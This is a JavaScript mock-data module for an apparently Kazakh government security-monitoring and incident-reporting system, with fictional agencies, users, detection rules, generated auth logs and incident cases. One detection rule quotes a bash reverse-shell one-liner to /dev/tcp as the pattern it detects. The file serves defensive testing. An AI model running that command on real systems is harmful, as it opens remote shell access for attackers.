// A small e-government for the mock server: made up, but with the shapes, lengths and languages of the real one.
import { createHash, randomUUID } from 'node:crypto';
import { edition } from './edition.mjs';

const MIN = 60_000;
const HOUR = 60 * MIN;
export const iso = (ms) => new Date(ms).toISOString();
export const sha = (text) => createHash('sha256').update(text).digest('hex');

export const organisations = [
  { id: 'sts', name: '«Мемлекеттік техникалық қызмет» АҚ', kind: 'sts', bin: '200240023389', email: 'centre@sts.example' },
  { id: 'densaulyk', name: 'Қазақстан Республикасы Денсаулық сақтау министрлігі', kind: 'owner', bin: '170340000121', email: 'ib@dsm.example' },
  { id: 'enbek', name: 'Қазақстан Республикасы Еңбек және халықты әлеуметтік қорғау министрлігі', kind: 'owner', bin: '140240013121', email: 'ib@enbek.example' },
  { id: 'knb', name: 'Қазақстан Республикасы Ұлттық қауіпсіздік комитеті', kind: 'knb', bin: null, email: null },
  { id: 'ocib', name: '«Кибер қалқан» АҚЖО ЖШС', kind: 'ocib', bin: '180540003210', email: 'duty@ocib.example' },
  { id: 'kegoc', name: '«Электр желілері» АҚ (АКИАМО)', kind: 'owner', bin: '970740000838', email: 'ib@grid.example' },
  { id: 'body', name: 'Қазақстан Республикасының Цифрлық даму министрлігі (уәкілетті орган)', kind: 'owner', bin: null, email: null },
];
export const orgRef = (id) => ({ id, name: organisations.find((o) => o.id === id).name });

export const users = [
  { id: 'u1', login: 'admin', name: 'Ерлан Сәтбаев', role: 'administrator', org: orgRef('sts'), language: 'kk', email: 'admin@sts.example', active: true, locked_until: null, last_login_at: iso(Date.now() - 5 * HOUR) },
  { id: 'u2', login: 'aigul', name: 'Айгүл Нұрланқызы Бекмұхамбетова', role: 'centre_analyst', org: orgRef('sts'), language: 'kk', email: 'aigul@sts.example', active: true, locked_until: null, last_login_at: iso(Date.now() - HOUR) },
  { id: 'u3', login: 'daniyar', name: 'Данияр Оспанов', role: 'owner_officer', org: orgRef('densaulyk'), language: 'ru', email: 'd.ospanov@dsm.example', active: true, locked_until: null, last_login_at: iso(Date.now() - 20 * HOUR) },
  { id: 'u4', login: 'marat.t', name: 'Марат Төлегенов', role: 'owner_officer', org: orgRef('enbek'), language: 'kk', email: 'm.tolegenov@enbek.example', active: true, locked_until: iso(Date.now() + 10 * MIN), last_login_at: null },
  ...[
    ['lead', 'Гүлнар Қасымова', 'centre_lead', 'sts'], ['surveyor', 'Тимур Ахметов', 'surveyor', 'sts'], ['docs', 'Жанар Оразова', 'document_auditor', 'sts'],
    ['owner.admin', 'Асқар Нұрпейісов', 'owner_administrator', 'densaulyk'], ['ocib', 'Руслан Ким', 'ocib_analyst', 'ocib'], ['cii', 'Болат Серіков', 'cii_responsible', 'kegoc'],
    ['knb', 'Н. Жұмабаев', 'knb', 'knb'], ['body', 'Айдана Мұратқызы', 'authorised_body', 'body'], ['auditor', 'Виктор Ли', 'auditor', 'sts'],
  ].map(([login, name, role, org], i) => ({ id: `r${i}`, login, name, role, org: orgRef(org), language: 'ru', email: `${login}@${org}.example`, active: true, locked_until: null, last_login_at: null })),
  { id: 'u5', login: 'old.officer', name: 'Сәуле Ахметова', role: 'owner_officer', org: orgRef('enbek'), language: 'ru', email: null, active: false, locked_until: null, last_login_at: iso(Date.now() - 90 * 24 * HOUR) },
];

const contact = (name, email, phone) => ({ kind: 'responsible_person', name, email, phone, language: 'kk' });
export const objects = [
  { id: 'o1', name: '«Электрондық денсаулық паспорты» ақпараттық жүйесі', org: orgRef('densaulyk'), criticality: 'high', contour: 'internal', hosts: ['ehr-app-01', 'ehr-db-01', '10.20.4.17'], contacts: [contact('Данияр Оспанов', 'd.ospanov@dsm.example', '+7 7172 74 32 10'), { kind: 'ocib', name: 'АҚЖО кезекшісі', email: 'duty@ocib.example', phone: '+7 7172 55 00 00', language: 'ru' }], active: true, open_cases: 3, last_event_at: iso(Date.now() - 4000) },
  { id: 'o2', name: '«Enbek.kz электрондық еңбек биржасы» интернет-ресурсы', org: orgRef('enbek'), criticality: 'medium', contour: 'external', hosts: ['web-enbek-1', 'web-enbek-2'], contacts: [contact('Марат Төлегенов', 'm.tolegenov@enbek.example', null)], active: true, open_cases: 1, last_event_at: iso(Date.now() - 61000) },
  { id: 'o3', name: '«Дәрі-дәрмекпен қамтамасыз етудің бірыңғай ақпараттық жүйесі»', org: orgRef('densaulyk'), criticality: 'low', contour: null, hosts: [], contacts: [], active: true, open_cases: 0, last_event_at: null },
  { id: 'o4', name: '«Архив» ақпараттық жүйесі', org: orgRef('enbek'), criticality: null, contour: 'internal', hosts: ['arch-01'], contacts: [contact('Сәуле Ахметова', null, '+7 7172 00 00 00')], active: false, open_cases: 0, last_event_at: iso(Date.now() - 40 * 24 * HOUR) },
];
const objRef = (id) => (id ? { id, name: objects.find((o) => o.id === id).name } : null);

export const rules = [
  { id: 'saqshy-ssh-bruteforce', title: 'SSH арқылы құпиясөз таңдау', description: 'Бір мекенжайдан 5 минутта 10 және одан көп сәтсіз кіру әрекеті.', level: 'high', status: 'stable', tags: ['attack.t1110', 'OS-04'], auto_notify: false, findings: 128 },
  { id: 'saqshy-ssh-success-after-bruteforce', title: 'Құпиясөз таңдаудан кейінгі сәтті кіру', description: 'Бірнеше сәтсіз әрекеттен кейін сол мекенжайдан сәтті кіру.', level: 'critical', status: 'stable', tags: ['attack.t1110', 'attack.t1078'], auto_notify: true, findings: 3 },
  { id: 'saqshy-same-account-many-addresses', title: 'Бір есептік жазба әртүрлі мекенжайлардан', description: 'Annex 4, R-A4.3-01: one account from different addresses on one server.', level: 'medium', status: 'stable', tags: ['UX-01'], auto_notify: false, findings: 17 },
  { id: 'saqshy-audit-service-stopped', title: 'Журналдау қызметі тоқтатылды', description: '', level: 'high', status: 'test', tags: ['attack.t1562.001'], auto_notify: false, findings: 1 },
  { id: 'saqshy-new-listening-port', title: 'Жаңа тыңдау порты', description: 'Хостта бұрын болмаған порт ашылды.', level: 'low', status: 'experimental', tags: [], auto_notify: false, findings: 42 },
  { id: '6c3f5a57-8f5a-4a77-a5e3-2d8c3f9b1f7e', title: 'Linux Reverse Shell Indicator', description: 'Detects a bash contecting to a remote IP address (often found when actors do something like bash -i >& /dev/tcp/10.0.0.1/4242 0>&1)', level: 'critical', status: 'unsupported', tags: ['attack.execution', 'attack.t1059.004'], auto_notify: false, findings: 0 },
];

let seq = 4_200_000;
const HOSTS = ['ehr-app-01', 'ehr-db-01', 'web-enbek-1', 'web-enbek-2'];
export function makeEvent(at, i) {
  const host = HOSTS[i % HOSTS.length];
  const ip = `185.220.101.${(i * 7) % 250}`;
  const kinds = [
    () => ({ line: `sshd[${2000 + i}]: Failed password for invalid user admin from ${ip} port ${40000 + i} ssh2`, parser: 'sshd', 'user.name': 'admin', 'source.ip': ip, 'event.outcome': 'failure', 'process.name': 'sshd', 'saqshy.types': ['OS-04'] }),
    () => ({ line: `sudo:   marat : TTY=pts/0 ; PWD=/home/marat ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`, parser: 'sudo', 'user.name': 'marat', 'process.name': 'sudo', 'process.command_line': '/usr/bin/systemctl restart nginx', 'saqshy.types': ['OS-04', 'UX-02'] }),
    () => ({ line: `kernel: [12345.678] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=${ip} DST=10.20.4.17 LEN=60 TOS=0x00 PREC=0x00 TTL=49 ID=54321 DF PROTO=TCP SPT=${40000 + i} DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0`, parser: 'netfilter', 'source.ip': ip, 'destination.ip': '10.20.4.17', 'saqshy.types': ['NET-01'] }),
    () => ({ line: `CRON[${9000 + i}]: (root) CMD (/usr/local/bin/backup-ehr.sh --full --target=/srv/backup)`, parser: 'cron', 'user.name': 'root', 'process.name': 'CRON' }),
    () => ({ line: `qolyapp: сұрау №${i} орындалмады: дерекқорға қосылу мүмкін емес (timeout=30s) \u0001\u0002 <xml attr="1">${'ұзын мәтін '.repeat(12)}</xml>`, parser: '', failed: true }),
  ];
  const made = kinds[i % kinds.length]();
  const { line, parser, failed, ...fields } = made;
  seq += 1;
  const stamp = new Date(at + 5 * HOUR).toISOString();
  return {
    '@timestamp': iso(at),
    'event.original': `${stamp.slice(0, 19)}+05:00 ${host} ${line}`,
    'host.name': host,
    ...fields,
    'saqshy.class': 'os-unix',
    'saqshy.object': host.startsWith('ehr') ? 'o1' : 'o2',
    ...(parser ? { 'saqshy.parser': parser } : {}),
    'saqshy.parse': failed ? 'failed' : 'ok',
    ...(failed ? { 'saqshy.marks': ['binary'] } : {}),
    'saqshy.seq': String(seq),
    'saqshy.source': `${host}//var/log/auth.log`,
  };
}
export const events = Array.from({ length: 2400 }, (_, i) => makeEvent(Date.now() - i * 1400 - Math.round(Math.sin(i / 90) ** 2 * 900), i)).sort((a, b) => (a['@timestamp'] < b['@timestamp'] ? 1 : -1));

export const sources = () => [
  { id: 'ehr-app-01//var/log/auth.log', host: 'ehr-app-01', object: objRef('o1'), class: 'os-unix', state: 'ok', last_seen: iso(Date.now() - 3000), events: 1284733, unparsed: 412, parser_counts: { sshd: 1200411, sudo: 12033, cron: 71877 }, lag_s: 0.4 },
  { id: 'ehr-db-01//var/log/postgresql/postgresql-15-main.log', host: 'ehr-db-01', object: objRef('o1'), class: 'db', state: 'late', last_seen: iso(Date.now() - 340000), events: 88210, unparsed: 60122, parser_counts: { syslog: 28088 }, lag_s: 341 },
  { id: 'web-enbek-1/journald', host: 'web-enbek-1', object: objRef('o2'), class: 'app', state: 'silent', last_seen: iso(Date.now() - 7 * HOUR), events: 5510, unparsed: 0, parser_counts: { json: 5510 }, lag_s: null },
  { id: '10.77.1.9', host: '10.77.1.9', object: null, class: 'net', state: 'ok', last_seen: iso(Date.now() - 1000), events: 903, unparsed: 3, parser_counts: { netfilter: 900 }, lag_s: 0.1 },
  { id: 'new-agent/journald', host: 'new-agent', object: null, class: '', state: 'silent', last_seen: null, events: 0, unparsed: 0, parser_counts: {}, lag_s: null },
];

const person = (login) => {
  const u = users.find((x) => x.login === login);
  return { id: u.id, name: u.name, role: u.role };
};
const pick = (text, lang) => text[lang] || text.kk;

function clockRow(c, id, from, hours, state = 'running', fulfilled = null) {
  return { id: `${c.id}-${id}`, obligation: id, case: c, from, due: from + hours * HOUR, state, fulfilled };
}

/** Cases are kept as numbers of milliseconds and turned into the API's form when asked. */
function newCase(id, n, rule, object, state, ago, count, extra = {}) {
  const detected = Date.now() - ago;
  const c = { id, number: `2026-${String(n).padStart(6, '0')}`, rule: rules[rule], object, state, kind: 'undetermined', detected, last: Date.now() - Math.min(ago, 30000), count, level: null, clocks: [], timeline: [], documents: [], notices: [], ...extra };
  c.title = `${rules[rule].title}: ${object ? objects.find((o) => o.id === object).hosts[0] : '10.77.1.9'}, 185.220.101.34`;
  c.clocks.push(clockRow(c, 'D-05', detected, 0.5));
  c.timeline.push(entry('detected', detected, null, { text: `Failed password for invalid user admin from 185.220.101.34 port 40022 ssh2 (${count})`, due_at: null }));
  c.timeline.push(entry('clock_started', detected, null, { obligation: 'D-05', due_at: iso(detected + 30 * MIN) }));
  return c;
}
export function entry(kind, at, author, extra = {}) {
  return { id: randomUUID(), kind, happened_at: iso(at), recorded_at: iso(at + 400), due_at: null, author, obligation: null, text: null, proof: null, ...extra };
}

export function notified(c, at, author) {
  const d05 = c.clocks.find((k) => k.obligation === 'D-05');
  Object.assign(d05, { state: 'fulfilled', fulfilled: at });
  const digest = sha(`annex7${c.id}`);
  c.state = 'notified';
  c.notified = at;
  c.documents.push({ sha256: digest, kind: 'annex7', created_at: iso(at), size_bytes: 48213, author });
  const addressee = c.object === 'o2' ? 'm.tolegenov@enbek.example' : 'd.ospanov@dsm.example';
  const mail = { id: randomUUID(), kind: 'annex7', channel: 'email', addressee, state: 'sent', attempts: 1, queued_at: iso(at), sent_at: iso(at + 1100), read_at: null, message_id: `<${digest.slice(0, 20)}@saqshy.sts.example>`, smtp_reply: '250 2.0.0 Ok: queued as 4Xk2Lq3b9Zz1', sha256: digest, last_error: null };
  c.notices.push(mail, { ...mail, id: randomUUID(), channel: 'inbox', addressee: users.find((u) => u.email === addressee)?.name ?? addressee, message_id: null, smtp_reply: null });
  c.timeline.push(entry('notify', at, author, { due_at: iso(d05.due), obligation: 'D-05' }));
  c.timeline.push(entry('notice_sent', at + 1100, null, { proof: { channel: 'email', addressee, message_id: mail.message_id, smtp_reply: mail.smtp_reply, sha256: digest } }));
  c.timeline.push(entry('clock_fulfilled', at, null, { obligation: 'D-05', due_at: iso(d05.due) }));
  c.clocks.push(clockRow(c, 'D-10', at, 72), clockRow(c, 'D-11', at, 72));
}
export function confirmed(c, at, author, level, text) {
  c.state = 'incident_confirmed';
  c.kind = 'incident';
  c.level = level;
  c.confirmed = at;
  for (const k of c.clocks) if (k.obligation === 'D-10') k.state = 'cancelled';
  c.clocks.push(clockRow(c, 'D-06', at, 72));
  if (level === 'undefined') c.clocks.push(clockRow(c, 'D-31', at, 48));
  c.timeline.push(entry('confirm_incident', at, author, { text }));
  c.timeline.push(entry('clock_started', at, null, { obligation: 'D-06', due_at: iso(at + 72 * HOUR) }));
}

export const cases = [];
{
  const a = newCase('c1', 41, 0, 'o1', 'detected', 37 * MIN, 64);
  const b = newCase('c2', 42, 1, 'o1', 'detected', 23 * MIN, 11);
  const c = newCase('c3', 43, 2, 'o2', 'primary_analysis', 8 * MIN, 3);
  c.timeline.push(entry('analyse', c.detected + 3 * MIN, person('aigul'), { text: 'Әкімшінің жұмыс сапарынан кіруі болуы мүмкін, тексеріліп жатыр.' }));
  const d = newCase('c4', 39, 1, 'o1', 'detected', 20 * HOUR, 402);
  notified(d, d.detected + 12 * MIN, person('aigul'));
  d.notices[1].state = 'read';
  d.notices[1].read_at = iso(d.detected + 25 * MIN);
  d.timeline.push(entry('acknowledge', d.detected + 25 * MIN, person('daniyar')));
  confirmed(d, d.detected + 3 * HOUR, person('daniyar'), 'undefined', 'Учётная запись backup использована с внешнего адреса; доступ заблокирован, проверяем остальные узлы.');
  const e = newCase('c5', 38, 3, null, 'detected', 9 * HOUR, 1);
  const g = newCase('c6', 30, 0, 'o2', 'detected', 100 * HOUR, 9);
  notified(g, g.detected + 41 * MIN, person('aigul'));
  g.notices[0] = { ...g.notices[0], state: 'failed', attempts: 5, sent_at: null, message_id: null, smtp_reply: '451 4.3.2 Please try again later', last_error: 'could not connect to mail.enbek.example:25: connection timed out' };
  const h = newCase('c7', 12, 4, 'o2', 'closed', 400 * HOUR, 2);
  h.clocks.forEach((k) => Object.assign(k, { state: 'cancelled' }));
  h.closed = h.detected + 5 * HOUR;
  h.timeline.push(entry('dismiss', h.detected + 10 * MIN, person('aigul'), { text: 'Жоспарлы жаңарту кезінде ашылған порт (өтінім №118).' }), entry('close', h.closed, person('aigul')));
  cases.push(a, b, c, d, e, g, h);
}

const left = (k) => Math.floor((k.due - Date.now()) / 1000);
const running = (k) => k.state === 'running' || k.state === 'overdue';

export function clockView(k, lang) {
  const o = edition.obligations.find((x) => x.id === k.obligation);
  const state = k.state === 'running' && left(k) < 0 ? 'overdue' : k.state;
  const words = { kk: ['Басталу сәті', 'мерзім', 'минут пен сағат тәулік бойы үздіксіз есептеледі'], ru: ['Начало', 'срок', 'минуты и часы считаются непрерывно, круглосуточно'], en: ['Start', 'term', 'minutes and hours run continuously, day and night'] }[lang];
  return {
    id: k.id, subject: { kind: 'case', id: k.case.id }, obligation: k.obligation, paragraph: o.paragraph, title: pick(o.title, lang), who: pick(o.who, lang), whom: o.whom[lang],
    case_id: k.case.id, case_number: k.case.number, case_title: k.case.title, object: objRef(k.case.object), from: iso(k.from), due: iso(k.due), nominal: iso(k.due), state,
    remaining_s: running(k) ? left(k) : 0,
    arithmetic: [`${words[0]}: ${iso(k.from + 5 * HOUR).slice(0, 19)}+05:00`, `${words[1]}: ${o.amount} ${o.unit}; ${words[2]}`, `= ${iso(k.due + 5 * HOUR).slice(0, 19)}+05:00`],
    fulfilled_at: k.fulfilled ? iso(k.fulfilled) : null,
  };
}

export function summary(c) {
  const open = c.clocks.filter(running).sort((x, y) => x.due - y.due);
  return {
    id: c.id, number: c.number, kind: c.kind, state: c.state, title: c.title, rule: { id: c.rule.id, name: c.rule.title, level: c.rule.level }, object: objRef(c.object),
    org: c.object ? objects.find((o) => o.id === c.object).org : null, detected_at: iso(c.detected), last_seen_at: iso(c.last), count: c.count, level: c.level,
    next_due: open[0] ? { obligation: open[0].obligation, due: iso(open[0].due), remaining_s: left(open[0]) } : null,
    overdue: open.some((k) => left(k) < 0), updated_at: iso(Date.now()),
  };
}

const field = (name, type, required, values = []) => ({ name, type, required, enum: values });
const note = [field('note', 'text', false)];
export const ACTIONS = {
  analyse: note, dismiss: [field('reason', 'text', true)],
  notify: [field('detection_kind', 'enum', true, ['event', 'incident']), field('annex7', 'annex7', true), field('recommendations', 'text', true)],
  acknowledge: [], confirm_event: note,
  confirm_incident: [field('confirmed_at', 'datetime', true), field('level', 'enum', true, ['high', 'medium', 'low', 'undefined']), ...note],
  reject: [field('reason', 'text', true)], event_analysis: [field('text', 'text', true)], report_measures: [field('annex2', 'annex2', true)],
  eliminate: [field('eliminated_at', 'datetime', true), field('causes', 'text', true), field('consequences', 'text', true), ...note],
  accept_elimination: note, notify_knb: note, review_level: [field('level', 'enum', true, ['high', 'medium', 'low', 'undefined']), field('reason', 'text', true)],
  comment: [field('text', 'text', true)], close: note,
};
function offered(c, role) {
  const analyst = { detected: ['analyse', 'notify', 'dismiss'], primary_analysis: ['notify', 'dismiss'], eliminated: ['close'], rejected: ['close'], dismissed_by_sts: ['close'], event_analysed: ['close'] };
  const officer = { notified: ['acknowledge', 'confirm_incident', 'confirm_event', 'reject'], event_confirmed: ['event_analysis', 'confirm_incident'], incident_confirmed: ['report_measures', 'eliminate', 'review_level'], measures_reported: ['eliminate', 'review_level'] };
  const centre = ['centre_analyst', 'centre_lead'].includes(role);
  const owner = ['owner_officer', 'owner_administrator', 'ocib_analyst', 'cii_responsible'].includes(role);
  const names = !(centre || owner) || c.state === 'closed' ? [] : [...((centre ? analyst : officer)[c.state] ?? []), 'comment'];
  if (centre && c.declared && !c.eliminated) names.unshift('accept_elimination');
  const d06 = c.clocks.find((k) => k.obligation === 'D-06' && k.state === 'running');
  if (centre && d06 && left(d06) < 0) names.unshift('notify_knb');
  return names.map((name) => ({ name, fields: ACTIONS[name] }));
}

export function caseView(c, role, lang) {
  const o = c.object ? objects.find((x) => x.id === c.object) : null;
  const host = o?.hosts[0] ?? '10.77.1.9';
  const at = (x) => (x ? iso(x) : null);
  const findings = Array.from({ length: Math.min(c.count, 12) }, (_, i) => ({
    ...makeEvent(c.last - i * 21000, i * 5), 'host.name': host, 'rule.id': c.rule.id, 'rule.name': c.rule.title, 'rule.level': c.rule.level, 'saqshy.event_time': iso(c.last - i * 21000), 'saqshy.count': c.count - i, 'saqshy.group': `${c.rule.id}|${c.object}|185.220.101.34`,
  }));
  return {
    ...summary(c), now: iso(Date.now()), edition: edition.id, group: `${c.rule.id}|${c.object}|185.220.101.34`, notified_at: at(c.notified), confirmed_at: at(c.confirmed), elimination_declared_at: at(c.declared), eliminated_at: at(c.eliminated), closed_at: at(c.closed),
    recommendations: '1. 185.220.101.34 мекенжайын желіаралық экранда бұғаттау.\n2. «admin» есептік жазбасын тексеріп, құпиясөзін ауыстыру.\n3. SSH қызметіне сырттан қол жеткізуді шектеу.\n4. Осы хосттан басқа хосттарға қосылымдарды тексеру.',
    clocks: c.clocks.map((k) => clockView(k, lang)), timeline: c.timeline, documents: c.documents, notices: c.notices, findings,
    annex7: { registered_on: iso(c.detected).slice(0, 10), detected_at: iso(c.detected), source_ip: c.object ? '185.220.101.34' : null, target_ip: '10.20.4.17', device_name: host, event_name: c.rule.title, file_path_or_request: null, server_response_code: null, ipt_hit_count: c.count, source_organization: null, registration_kind: 'first', nature: 'Failed password for invalid user admin from 185.220.101.34 port 40022 ssh2', owner_or_possessor: o?.org.name ?? null, object: o?.name ?? null, note: null },
    annex2: c.confirmed ? { registered_on: iso(c.confirmed).slice(0, 10), level: c.level, incident_type: 'authentication_means_compromise', scale: null, occurred_at: iso(c.detected), confirmed_at: iso(c.confirmed), recurrence: 'new', iocs: [{ type: 'ip', value: '185.220.101.34' }], sign: null, contour: null, nature: null, consequences: [], affected_object: o?.name ?? null, elimination_actions: null, note: null } : null,
    actions: offered(c, role),
    approvals: [],
  };
}

export const audit = Array.from({ length: 40 }, (_, i) => {
  const kinds = [['session.open', 'user/u2', '', 'ok'], ['case.notify', 'case/c4', 'annex7 → d.ospanov@dsm.example', 'ok'], ['session.open', 'user/u4', 'bad_credentials', 'refused'], ['object.update', 'object/o1', 'hosts: +10.20.4.17', 'ok'], ['mail.send', 'case/c6', '451 4.3.2 Please try again later', 'failed']];
  const [action, target, detail, outcome] = kinds[i % kinds.length];
  const u = i % 5 === 4 ? null : users[i % 4];
  return { id: String(900 - i), at: iso(Date.now() - i * 17 * MIN), login: u?.login ?? '', role: u?.role ?? null, address: u ? `10.0.${i % 9}.${20 + i}` : '', action, target, detail, outcome, hash: sha(`audit${i}`) };
});
export { edition, person, objRef };
